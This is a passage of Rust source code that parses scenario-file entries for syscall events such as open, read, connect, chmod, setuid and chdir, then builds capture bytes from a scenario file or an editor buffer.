            let fd = opt(r, e, "fd", |r, v| fd_of(r, v, "fd"))?;
            let error = opt(r, e, "error", parse_error)?;
            let call = syscall_choice(
                r,
                e,
                OpenCall::Openat,
                &[
                    ("open", OpenCall::Open),
                    ("openat", OpenCall::Openat),
                    ("openat2", OpenCall::Openat2),
                    ("creat", OpenCall::Creat),
                ],
            )?;
            EventKind::Open {
                pid,
                path,
                flags,
                mode,
                fd,
                error,
                call,
            }
        }
        "close" => {
            let e = r.mapping(body, &what, &["pid", "fd", "path"])?;
            let pid = pid_key(r, e)?;
            let fd = read_fdref(r, e, body)?;
            EventKind::Close { pid, fd }
        }
        "read" | "write" => {
            let e = r.mapping(body, &what, &["pid", "fd", "path", "data", "error"])?;
            let pid = pid_key(r, e)?;
            let fd = read_fdref(r, e, body)?;
            let data = opt(r, e, "data", |r, v| {
                r.string(v, "data").map(|s| s.value.into_bytes())
            })?
            .unwrap_or_default();
            let error = opt(r, e, "error", parse_error)?;
            if kind == "read" {
                EventKind::Read {
                    pid,
                    fd,
                    data,
                    error,
                }
            } else {
                EventKind::Write {
                    pid,
                    fd,
                    data,
                    error,
                }
            }
        }
        "connect" => {
            let e = r.mapping(body, &what, &["pid", "to", "from", "proto", "fd", "error"])?;
            let pid = pid_key(r, e)?;
            let to_node = r.require(e, "to", &what, body.span)?;
            let to_text = r.nonempty(to_node, "to")?;
            let to = if to_text.value.starts_with('/') {
                Peer::Unix(to_text.value)
            } else {
                Peer::Inet(parse_sockaddr(r, to_node, "to")?)
            };
            let from = opt(r, e, "from", |r, v| parse_sockaddr(r, v, "from"))?;
            let udp = parse_proto(r, e)?;
            let fd = opt(r, e, "fd", |r, v| fd_of(r, v, "fd"))?;
            let error = opt(r, e, "error", parse_error)?;
            if let (Peer::Unix(_), Some(_)) = (&to, &from) {
                r.error(body.span, "'from' is for IP connections");
                return None;
            }
            EventKind::Connect {
                pid,
                to,
                from,
                udp,
                fd,
                error,
            }
        }
        "listen" => {
            let e = r.mapping(body, &what, &["pid", "on", "proto", "fd"])?;
            let pid = pid_key(r, e)?;
            let on = r
                .require(e, "on", &what, body.span)
                .and_then(|v| parse_sockaddr(r, v, "on"))?;
            let udp = parse_proto(r, e)?;
            let fd = opt(r, e, "fd", |r, v| fd_of(r, v, "fd"))?;
            EventKind::Listen { pid, on, udp, fd }
        }
        "accept" => {
            let e = r.mapping(body, &what, &["pid", "fd", "from", "newfd", "error"])?;
            let pid = pid_key(r, e)?;
            let fd = opt(r, e, "fd", |r, v| fd_of(r, v, "fd"))?;
            let from = r
                .require(e, "from", &what, body.span)
                .and_then(|v| parse_sockaddr(r, v, "from"))?;
            let newfd = opt(r, e, "newfd", |r, v| fd_of(r, v, "newfd"))?;
            let error = opt(r, e, "error", parse_error)?;
            EventKind::Accept {
                pid,
                fd,
                from,
                newfd,
                error,
            }
        }
        "chmod" => {
            let e = r.mapping(body, &what, &["pid", "path", "mode", "error", "syscall"])?;
            let pid = pid_key(r, e)?;
            let path = required_text(r, e, "path", &what, body.span)?;
            let mode = r
                .require(e, "mode", &what, body.span)
                .and_then(|v| mode_of(r, v))?;
            let error = opt(r, e, "error", parse_error)?;
            let at = syscall_choice(r, e, false, &[("chmod", false), ("fchmodat", true)])?;
            EventKind::Chmod {
                pid,
                path,
                mode,
                error,
                at,
            }
        }
        "rename" => {
            let e = r.mapping(body, &what, &["pid", "from", "to", "error", "syscall"])?;
            let pid = pid_key(r, e)?;
            let from = required_text(r, e, "from", &what, body.span)?;
            let to = required_text(r, e, "to", &what, body.span)?;
            let error = opt(r, e, "error", parse_error)?;
            let call = syscall_choice(
                r,
                e,
                RenameCall::Renameat2,
                &[
                    ("rename", RenameCall::Rename),
                    ("renameat", RenameCall::Renameat),
                    ("renameat2", RenameCall::Renameat2),
                ],
            )?;
            EventKind::Rename {
                pid,
                from,
                to,
                error,
                call,
            }
        }
        "unlink" => {
            let e = r.mapping(body, &what, &["pid", "path", "error", "syscall"])?;
            let pid = pid_key(r, e)?;
            let path = required_text(r, e, "path", &what, body.span)?;
            let error = opt(r, e, "error", parse_error)?;
            let at = syscall_choice(r, e, true, &[("unlink", false), ("unlinkat", true)])?;
            EventKind::Unlink {
                pid,
                path,
                error,
                at,
            }
        }
        "mkdir" => {
            let e = r.mapping(body, &what, &["pid", "path", "mode", "error"])?;
            let pid = pid_key(r, e)?;
            let path = required_text(r, e, "path", &what, body.span)?;
            let mode = opt(r, e, "mode", mode_of)?.unwrap_or(0o755);
            let error = opt(r, e, "error", parse_error)?;
            EventKind::Mkdir {
                pid,
                path,
                mode,
                error,
            }
        }
        "setuid" => {
            let e = r.mapping(body, &what, &["pid", "user", "uid", "error"])?;
            let pid = pid_key(r, e)?;
            let Some(user) = read_user_ref(r, e, body)? else {
                r.error(body.span, "a setuid event needs 'user' or 'uid'");
                return None;
            };
            let error = opt(r, e, "error", parse_error)?;
            EventKind::Setuid { pid, user, error }
        }
        "setgid" => {
            let e = r.mapping(body, &what, &["pid", "gid", "error"])?;
            let pid = pid_key(r, e)?;
            let gid = r
                .require(e, "gid", &what, body.span)
                .and_then(|v| r.uint(v, "gid", u32::MAX as u64 - 1))?
                .value as u32;
            let error = opt(r, e, "error", parse_error)?;
            EventKind::Setgid { pid, gid, error }
        }
        "chdir" => {
            let e = r.mapping(body, &what, &["pid", "path", "error"])?;
            let pid = pid_key(r, e)?;
            let path = required_text(r, e, "path", &what, body.span)?;
            let error = opt(r, e, "error", parse_error)?;
            EventKind::Chdir { pid, path, error }
        }
        other => {
            r.error(key.span, format!("unknown event kind '{other}'"));
            return None;
        }
    };
    Some(EventSpec {
        kind: ev,
        span: n.span,
        name: kind.to_string(),
    })
}

/// Reads, parses and builds a scenario file: the capture's bytes.
pub fn build_file(path: &std::path::Path) -> Result<Vec<u8>, Vec<Diagnostic>> {
    let text = std::fs::read_to_string(path).map_err(|e| {
        vec![crate::diag::file_error(
            path,
            "missing-fixture",
            format!("cannot read the scenario {}: {e}", path.display()),
        )]
    })?;
    build_text(path, &text)
}

/// Parses and builds a scenario file's text (an editor's unsaved buffer).
pub fn build_text(path: &std::path::Path, text: &str) -> Result<Vec<u8>, Vec<Diagnostic>> {
    let src = Arc::new(SourceText::new(path, text));
    let s = parse_file(src)?;
    build(&s)
}
